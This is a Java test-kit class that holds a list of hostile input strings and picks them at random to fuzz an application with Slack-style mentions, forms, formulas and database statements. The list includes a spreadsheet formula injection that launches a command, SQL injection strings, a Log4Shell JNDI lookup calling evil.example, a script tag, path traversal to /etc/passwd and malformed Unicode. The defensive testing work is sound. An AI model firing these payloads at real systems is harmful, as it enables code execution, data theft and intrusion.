package org.arising.testkit;

import java.util.List;
import java.util.Random;

/** What somebody may type to make a mention, a link, a form, a formula, a statement or a crash of it. */
public final class HostileTexts {
    /** Each of its kind. */
    public static final List<String> ALL = List.of(
            "<!channel>", "<!here>", "<!everyone>", "<@U0CLERK>", "<#C0PCC>", "<!subteam^S1>", "<https://evil.example|here>",
            "https://evil.example", "mailto:a@evil.example", "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "*_~`", "```", "> quoted",
            "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1", "\t=1", "'; DROP TABLE action; --", "\" OR 1=1", "%", "_", "a NEAR/2 b", "text:*",
            "\u0000", "\u0001\u0008", "\ud800", "\udc00", "\u202e\u202d", "\u200b\u2060", "👩‍👩‍👧‍👦", "ﷺ".repeat(20), "", "   ", "\n\n\n",
            "{{7*7}}", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "../../etc/passwd", "C:\\con", "PCC-2022-004",
            "PCC-99999999999999999999-1", "#999999999999999999999", "31 February 2022", "0000-00-00", "null", "true", "{}", "[]");

    private static final int LONG = 40_000;

    private HostileTexts() {}

    /** One, or several one after the other, or something endless. */
    public static String next(Random random) {
        return switch (random.nextInt(20)) {
            case 0 -> ALL.get(random.nextInt(ALL.size())).repeat(200);
            case 1 -> "a".repeat(LONG);
            case 2, 3, 4, 5 -> one(random) + one(random) + one(random);
            default -> one(random);
        };
    }

    private static String one(Random random) {
        return ALL.get(random.nextInt(ALL.size()));
    }
}
